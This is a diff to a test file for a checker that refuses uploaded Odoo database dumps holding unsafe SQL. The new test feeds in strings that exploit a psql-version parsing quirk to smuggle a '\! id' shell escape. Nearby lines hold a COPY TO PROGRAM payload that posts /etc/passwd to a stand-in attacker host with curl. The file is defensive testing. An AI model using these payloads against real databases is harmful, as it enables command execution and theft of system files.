@@ -400,6 +400,12 @@ describe("checking an uploaded Odoo database (bring your own database)", functio
       expect((await dumpRefusal(SQL_HEAD + "COPY public.t (a) FROM stdin; \\! id\n")).code).to.equal("sql_unsupported");
     });
 
+    it("a string whose end depends on the psql version (a quote right after a number)", async () => {
+      // psql up to 15 reads E'\' \! id' (one string); psql 16+ reads '\' then runs \! id
+      expect((await dumpRefusal(SQL_HEAD + "SET lock_timeout = 1e'\\' \\! id';\n")).code).to.equal("sql_unsupported");
+      expect((await dumpRefusal(SQL_HEAD + "SET lock_timeout = $1e'\\' \\! id';\n")).code).to.equal("sql_unsupported");
+    });
+
     it("COPY TO PROGRAM and FROM PROGRAM, and COPY from a server file", async () => {
       const to = await dumpRefusal(SQL_HEAD + "COPY public.t TO PROGRAM 'curl -d @/etc/passwd evil.example';\n");
       expect(to.code).to.equal("sql_forbidden_statement");
